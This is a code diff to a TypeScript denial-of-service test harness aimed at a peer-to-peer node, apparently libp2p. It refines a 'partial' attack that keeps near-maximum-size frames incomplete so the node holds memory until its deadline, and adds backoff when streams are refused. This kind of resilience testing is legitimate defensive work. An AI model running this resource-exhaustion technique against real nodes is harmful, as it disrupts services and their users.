@@ -164,7 +164,8 @@ const unread: Attack = async (target) => {
 const partial: Attack = async (target) => {
   const hosts = await attackerHosts(target, IDS)
   const peer = peerIdFromString(target.peerId)
-  const counts = { streamsOpened: 0, bytesHeld: 0 }
+  const counts = { streamsOpened: 0, peakMiBHeld: 0 }
+  let sent = 0
   const length = MAX_DATA_FRAME_BYTES
   const prefix = varint(length)
   const body = new Uint8Array(length - 1)
@@ -175,10 +176,14 @@ const partial: Attack = async (target) => {
     counts.streamsOpened++
     await sendWithBackPressure(stream, prefix)
     await sendWithBackPressure(stream, body)
-    counts.bytesHeld += body.byteLength
-    // hold it until the node gives up on the frame (its deadline), then start again
+    sent += body.byteLength
+    counts.peakMiBHeld = Math.max(counts.peakMiBHeld, Math.round(sent / 2 ** 20))
+    // hold it until the node gives up on the frame (its deadline), then start again; a
+    // stream refused at once (over the node's stream limits) waits, as a patient attacker would
+    const opened = performance.now()
     await new Promise((resolve) => stream.addEventListener('close', resolve, { once: true }))
-    counts.bytesHeld -= body.byteLength
+    sent -= body.byteLength
+    if (performance.now() - opened < 1000) await pause(1000)
   })
   return {
     stop: async () => {
